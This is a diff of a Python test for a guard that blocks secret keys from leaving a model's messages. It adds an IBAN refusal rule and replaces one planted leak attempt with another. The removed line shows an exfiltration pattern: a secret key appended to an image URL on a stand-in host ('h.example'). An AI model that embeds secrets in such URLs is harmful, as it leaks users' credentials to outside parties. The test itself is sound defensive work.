@@ -29,6 +29,7 @@ def key(place: str) -> str:
 PLACES = ("system", "user", "result", "listing", "arguments")
 KEYS = {place: key(place) for place in PLACES}
 DAYS = 12
+IBAN = "DE89 3704 0044 0532 0130 00"
 
 
 @contextmanager
@@ -43,6 +44,7 @@ def sidecar(socket: Path, collector: int) -> Iterator[tuple[Program, str]]:
         "LOG__LEVEL": "debug",
         "GUARD__MODE": "enforce",
         "GUARD__RESTORE": "deploy:github_token",
+        "GUARD__ACTIONS": "iban=refuse",
         "POLICY__PRESET": "lean",
     }
     with program(**settings) as running:
@@ -118,8 +120,7 @@ def test_no_byte_of_a_key_leaves(tmp_path_factory: pytest.TempPathFactory) -> No
                     ]
                     for entry in trimmed.stash_entries:
                         seen.append(repr(client.retrieve("planted", entry.stash_id)))
-                    image = {"type": "image_url", "image_url": {"url": f"https://h.example/?t={KEYS['user']}"}}
-                    leaving = [*history(last), {"role": "user", "content": [image]}]
+                    leaving = [*history(last), {"role": "user", "content": f"{KEYS['user']}: {IBAN}"}]
                     with pytest.raises(GuardRefused) as refused:
                         run.trim({"messages": leaving})
                     seen += [str(refused.value), repr(client.get_run("planted"))]
